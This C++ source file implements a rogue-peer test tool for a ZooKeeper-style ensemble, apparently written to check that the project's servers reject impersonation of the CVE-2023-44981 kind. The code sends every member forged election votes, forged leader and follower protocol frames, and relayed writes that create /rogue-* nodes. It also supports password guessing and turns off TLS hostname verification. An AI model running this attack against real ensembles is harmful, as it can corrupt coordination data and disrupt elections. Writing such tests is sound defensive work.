// corral-rogue-peer: a process that knows an ensemble's quorum and election ports and poses
// as a member (the CVE-2023-44981 class of attack). For each claimed id it runs the peer
// mesh as that id and, every 100 ms, sends every member
//   - on the election port: a vote for itself with a huge zxid and epoch (to win or disturb
//     an election);
//   - on the quorum port: a leader's stream (LEADERINFO, a SYNC carrying a txn, NEWLEADER,
//     UPTODATE, a PROPOSAL and its COMMIT), a follower's (FOLLOWERINFO, ACK) and forwarded
//     client writes (createSession, create) as a learner relays them.
// Every txn it sends creates a node under /rogue-*: a test checks none appears anywhere.
// Each frame a member sends it is printed as "FRAME claim=<id> from=<member> port=<name>
// kind=<...>", so a test sees whether members followed it.
//
// usage: corral-rogue-peer ZOO_CFG [--seat ID] [--claim ID...] [--user U --password P]
//                          [--tls-key PEM --tls-ca PEM] [--duration-ms N]
// --seat takes the ports of member ID's server.N line (a member that does not run), so the
// real members dial the rogue; --claim only dials out (its own ports are ephemeral).
#include <spdlog/spdlog.h>

#include <asio/io_context.hpp>
#include <asio/steady_timer.hpp>
#include <cstdio>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "ensemble/server/config.h"
#include "ensemble/server/peer_mesh.h"
#include "ensemble/server/tls_context.h"
#include "ensemble/zab/codec.h"

namespace {

using namespace corral;
using server::MeshPeer;
using server::PeerMesh;

constexpr int64_t kEpoch = 1000;
constexpr int64_t kZxid = (kEpoch << 32) | 1;

struct Options {
  std::string cfg;
  std::vector<int64_t> claims;
  int64_t seat = -1;
  server::PeerAuthSettings auth;
  server::TlsSettings tls = server::TlsSettings::with_prefix("rogue.");
  bool use_tls = false;
  int duration_ms = 10000;
};

std::string be32(uint32_t v) {
  std::string s(4, '\0');
  for (int i = 3; i >= 0; --i, v >>= 8) s[i] = static_cast<char>(v & 0xff);
  return s;
}

std::string jute_string(const std::string& s) { return be32(static_cast<uint32_t>(s.size())) + s; }

// A CreateRequest body: path, data, world:anyone ALL, persistent.
std::string create_body(const std::string& path) {
  return jute_string(path) + jute_string("rogue") + be32(1) + be32(31) + jute_string("world") +
         jute_string("anyone") + be32(0);
}

tree::Txn create_txn(const std::string& path, int64_t zxid) {
  tree::Txn t;
  t.session_id = 0;
  t.zxid = zxid;
  t.type = wire::OpCode::kCreate;
  tree::TxnOp op;
  op.type = wire::OpCode::kCreate;
  op.path = path;
  op.data = "rogue";
  op.acl = {{31, {"world", "anyone"}}};
  op.parent_cversion = 1;
  t.ops.push_back(op);
  return t;
}

zab::Message message(zab::MessageType type, int64_t from, int64_t to) {
  zab::Message m;
  m.type = type;
  m.from = from;
  m.to = to;
  m.epoch = kEpoch;
  m.zxid = kZxid;
  return m;
}

// Everything the rogue says on the quorum port to member `to`.
std::vector<std::string> quorum_script(int64_t me, int64_t to) {
  using zab::MessageType;
  std::vector<std::string> out;
  auto msg = [&](MessageType type) { return message(type, me, to); };
  out.push_back(zab::encode_frame(msg(MessageType::kLeaderInfo)));
  auto sync = msg(MessageType::kSync);
  sync.txns.push_back(tree::share(create_txn("/rogue-leader-sync", kZxid)));
  sync.committed_zxid = kZxid;
  out.push_back(zab::encode_frame(sync));
  out.push_back(zab::encode_frame(msg(MessageType::kNewLeader)));
  out.push_back(zab::encode_frame(msg(MessageType::kUpToDate)));
  auto proposal = msg(MessageType::kProposal);
  proposal.zxid = kZxid + 1;
  proposal.txns.push_back(tree::share(create_txn("/rogue-leader-proposal", kZxid + 1)));
  out.push_back(zab::encode_frame(proposal));
  auto commit = msg(MessageType::kCommit);
  commit.zxid = kZxid + 1;
  out.push_back(zab::encode_frame(commit));
  out.push_back(zab::encode_frame(msg(MessageType::kFollowerInfo)));
  out.push_back(zab::encode_frame(msg(MessageType::kAck)));
  zab::Relay session;
  session.kind = zab::RelayKind::kRequest;
  session.from = me;
  session.session_id = 0x7e0000000000 + me;
  session.type = static_cast<int32_t>(wire::OpCode::kCreateSession);
  session.timeout_ms = 30000;
  session.passwd = std::string(16, 'r');
  out.push_back(zab::encode_frame(session));
  zab::Relay create = session;
  create.cxid = 1;
  create.type = static_cast<int32_t>(wire::OpCode::kCreate);
  create.body = create_body("/rogue-follower-write");
  out.push_back(zab::encode_frame(create));
  return out;
}

const char* kind_of(std::string_view body) {
  auto frame = zab::decode_frame(body);
  if (!frame) return "malformed";
  if (std::holds_alternative<zab::Notification>(*frame)) return "vote";
  if (auto* m = std::get_if<zab::Message>(&*frame)) {
    static const char* names[] = {"FOLLOWERINFO", "LEADERINFO",   "ACKEPOCH", "SYNC",
                                  "NEWLEADER",    "ACKNEWLEADER", "UPTODATE", "PROPOSAL",
                                  "ACK",          "COMMIT",       "INFORM",   "PING"};
    return names[static_cast<int>(m->type)];
  }
  return "relay";
}

// One claimed identity: an election mesh and a quorum mesh.
struct Claim {
  int64_t id = 0;
  std::vector<int64_t> members;
  std::unique_ptr<PeerMesh> election;
  std::unique_ptr<PeerMesh> quorum;
};

// The members as the claim `me` sees them: the config's, without the rogue's seat (its
// frames are for real members only; ids the rogue invents are in no config).
std::vector<MeshPeer> peers(const server::ServerConfig& cfg, const Options& o, int64_t me,
                            bool election) {
  std::vector<MeshPeer> out;
  bool listed = false;
  for (const auto& s : cfg.servers) {
    if (s.id != me && s.id == o.seat) continue;
    auto port = static_cast<uint16_t>(election ? s.election_port : s.quorum_port);
    listed = listed || s.id == me;
    out.push_back({s.id, s.host, port});
  }
  if (!listed) out.push_back({me, "127.0.0.1", 0});
  return out;
}

std::unique_ptr<PeerMesh> make_mesh(asio::io_context& io, const server::ServerConfig& cfg,
                                    const Options& o, int64_t me, bool election,
                                    asio::ssl::context* server_tls,
                                    asio::ssl::context* client_tls) {
  auto list = peers(cfg, o, me, election);
  // Only the seat binds a member's ports (see the file comment).
  const char* port_name = election ? "election" : "quorum";
  PeerMesh::Handlers h;
  h.frame = [me, port_name](int64_t from, std::string_view body) {
    std::printf("FRAME claim=%lld from=%lld port=%s kind=%s\n", static_cast<long long>(me),
                static_cast<long long>(from), port_name, kind_of(body));
    std::fflush(stdout);
  };
  auto bind = [&](std::vector<MeshPeer> l) {
    auto mesh = std::make_unique<PeerMesh>(io, me, std::move(l), h);
    if (o.auth.enabled) mesh->authenticate(o.auth, port_name);
    if (server_tls) mesh->use_tls(*server_tls, *client_tls, false);
    mesh->start();
    return mesh;
  };
  if (me != o.seat)
    for (auto& p : list)
      if (p.id == me) p.port = 0;
  return bind(list);
}

Options parse(int argc, char** argv) {
  Options o;
  if (argc < 2) throw std::invalid_argument("usage: corral-rogue-peer ZOO_CFG --claim ID ...");
  o.cfg = argv[1];
  for (int i = 2; i + 1 < argc; i += 2) {
    std::string flag = argv[i], value = argv[i + 1];
    if (flag == "--claim") o.claims.push_back(std::stoll(value));
    if (flag == "--seat") {
      o.seat = std::stoll(value);
      o.claims.push_back(o.seat);
    }
    if (flag == "--user") o.auth.username = value;
    if (flag == "--password") o.auth.password = value;
    if (flag == "--tls-key") o.tls.keystore_location = value;
    if (flag == "--tls-ca") o.tls.truststore_location = value;
    if (flag == "--duration-ms") o.duration_ms = std::stoi(value);
  }
  if (!o.auth.username.empty()) {
    // It knows the account's name but guesses the password; it accepts anyone's proof.
    o.auth.enabled = o.auth.learner_require = true;
    o.auth.users = {{o.auth.username, o.auth.password}};
  }
  o.use_tls = !o.tls.keystore_location.empty();
  o.tls.hostname_verification = false;
  return o;
}

}  // namespace

int main(int argc, char** argv) {
  spdlog::set_level(spdlog::level::warn);
  Options o;
  server::ServerConfig cfg;
  try {
    o = parse(argc, argv);
    std::ifstream in(o.cfg);
    std::stringstream text;
    text << in.rdbuf();
    cfg = server::parse_config(text.str(), o.cfg);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "corral-rogue-peer: %s\n", e.what());
    return 2;
  }
  asio::io_context io;
  std::optional<asio::ssl::context> server_tls, client_tls;
  if (o.use_tls) {
    server_tls.emplace(server::make_tls_server_context(o.tls));
    client_tls.emplace(server::make_tls_client_context(o.tls));
  }
  std::vector<Claim> claims;
  for (int64_t id : o.claims) {
    Claim c;
    c.id = id;
    for (const auto& s : cfg.servers)
      if (s.id != id && s.id != o.seat) c.members.push_back(s.id);
    c.election = make_mesh(io, cfg, o, id, true, server_tls ? &*server_tls : nullptr,
                           client_tls ? &*client_tls : nullptr);
    c.quorum = make_mesh(io, cfg, o, id, false, server_tls ? &*server_tls : nullptr,
                         client_tls ? &*client_tls : nullptr);
    claims.push_back(std::move(c));
  }
  asio::steady_timer timer(io);
  const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(o.duration_ms);
  std::function<void()> attack = [&] {
    for (auto& c : claims) {
      for (int64_t to : c.members) {
        zab::Notification vote;
        vote.from = c.id;
        vote.state = zab::PeerState::kLooking;
        vote.vote = {c.id, kZxid + 100, kEpoch};
        vote.election_epoch = kEpoch;
        c.election->send(to, zab::encode_frame(vote));
        for (auto& frame : quorum_script(c.id, to)) c.quorum->send(to, std::move(frame));
      }
    }
    if (std::chrono::steady_clock::now() >= end) return io.stop();
    timer.expires_after(std::chrono::milliseconds(100));
    timer.async_wait([&](const asio::error_code& ec) {
      if (!ec) attack();
    });
  };
  attack();
  io.run();
  std::printf("DONE\n");
  return 0;
}
